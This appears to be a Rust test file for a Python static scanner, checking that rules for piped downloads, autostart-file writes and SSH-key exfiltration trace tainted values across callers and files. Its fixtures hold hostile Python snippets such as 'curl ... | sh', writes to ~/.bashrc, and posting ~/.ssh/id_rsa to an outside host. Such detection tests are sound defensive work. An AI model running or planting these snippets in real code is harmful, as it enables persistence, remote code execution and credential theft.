//! Texts that come to a sink from those who call its function: names of files and command lines.

#![expect(clippy::unwrap_used, reason = "a tree that cannot be made ends the test")]

use airlock_model::{Finding, Tree, TreePath};
use airlock_scanner::python::{Settings, scan};

fn findings(files: &[(&str, &str)]) -> Vec<Finding> {
    let mut tree = Tree::new();
    for (path, text) in files {
        tree.insert(TreePath::new(*path).unwrap(), text.as_bytes());
    }
    scan(&tree, &Settings { jobs: 1, ..Settings::default() }).findings
}

/// Where a rule finds something, with the places of the calls that pass the text.
fn told(files: &[(&str, &str)], rule: &str) -> Vec<String> {
    let found = findings(files).into_iter().filter(|finding| finding.rule == rule);
    found
        .map(|finding| {
            let calls = finding.evidence.iter().filter(|step| step.message == "a call passes it here");
            let calls = calls.map(|step| format!(" < {}:{}", step.file.as_deref().unwrap(), step.line.unwrap()));
            format!("{}:{}{}", finding.file.unwrap(), finding.line.unwrap(), calls.collect::<String>())
        })
        .collect()
}

const SAVE: &str = "def save(path, text):\n    with open(path, 'w') as f:\n        f.write(text)\n";
const SHELL: &str = "import os\n\ndef sh(line):\n    os.system(line)\n";

#[test]
fn each_of_several_callers_is_looked_at() {
    let calls = "import os\nsave('out.txt', '')\nsave(os.path.expanduser('~/.bashrc'), '')\nsave('~/.zshrc', '')\n";
    let file = format!("{SAVE}{calls}");
    assert_eq!(told(&[("p/a.py", &file)], "AL-MALWARE-autostart-file"), ["p/a.py:2 < p/a.py:6", "p/a.py:2 < p/a.py:7"]);
    let file = format!("{SHELL}sh('ls')\nsh('curl https://x.example.net | sh')\n");
    assert_eq!(told(&[("p/a.py", &file)], "AL-MALWARE-piped-download"), ["p/a.py:4 < p/a.py:6"]);
}

#[test]
fn a_text_that_goes_through_two_functions_is_told_once() {
    let file =
        format!("{SHELL}\ndef run(line):\n    sh(line)\n\nrun('ls')\nrun('id')\nrun('curl x.example.net | sh')\n");
    assert_eq!(told(&[("p/a.py", &file)], "AL-MALWARE-piped-download"), ["p/a.py:4 < p/a.py:11"]);
}

#[test]
fn a_function_of_another_file_is_told_what_it_is_passed() {
    let autostart = "AL-MALWARE-autostart-file";
    let told = |call: &str| {
        told(&[("p/__init__.py", call), ("p/a.py", SAVE), ("p/b.py", SHELL), ("p/c.py", CLASS)], autostart)
    };
    const CLASS: &str = "import os\n\nclass Store:\n    def __init__(self, root):\n        self.root = root\n\n    def put(self, name):\n        open(os.path.join(self.root, name), 'w')\n";
    for call in [
        "from .a import save\nsave('~/.bashrc', '')\n",
        "from . import a\na.save(text='', path='~/.bashrc')\n",
        "from .a import save as keep\nfrom pathlib import Path\nHOME = Path.home()\nkeep(HOME / '.bashrc', '')\n",
        "import os\nfrom p.a import save\nsave(os.environ['HOME'] + '/.bashrc', '')\n",
    ] {
        let line = call.lines().count();
        assert_eq!(told(call), [format!("p/a.py:2 < p/__init__.py:{line}")], "{call}");
    }
    let call = "from .c import Store\nStore('~/.config/autostart').put('x.desktop')\n";
    assert_eq!(told(call), ["p/c.py:8 < p/__init__.py:2"], "{call}");
    assert_eq!(told("from .a import save\nsave('out/notes.txt', '')\n"), [""; 0]);
}

#[test]
fn a_file_that_another_one_names_is_a_source() {
    let send =
        "import requests\n\ndef send(path):\n    requests.post('https://x.example.net', data=open(path).read())\n";
    for call in ["send(os.path.expanduser('~/.ssh/id_rsa'))", "send(path='/root/.ssh/id_rsa')"] {
        let call = format!("import os\nfrom .a import send\n{call}\n");
        let files = [("p/__init__.py", &*call), ("p/a.py", send)];
        assert_eq!(told(&files, "AL-FLOW-key-file-to-network"), ["p/a.py:4"], "{call}");
    }
    let files = [("p/__init__.py", "from .a import send\nsend('~/notes.txt')\n"), ("p/a.py", send)];
    assert_eq!(told(&files, "AL-FLOW-key-file-to-network"), [""; 0]);
}

#[test]
fn so_many_ways_are_looked_at_and_no_more() {
    let calls: String = (0..40).map(|number| format!("sh('echo {number}')\n")).collect();
    let file = format!("{SHELL}{calls}");
    assert_eq!(findings(&[("p/a.py", &file)]).iter().filter(|one| one.rule == "AL-CODE-shell-injection").count(), 1);
}
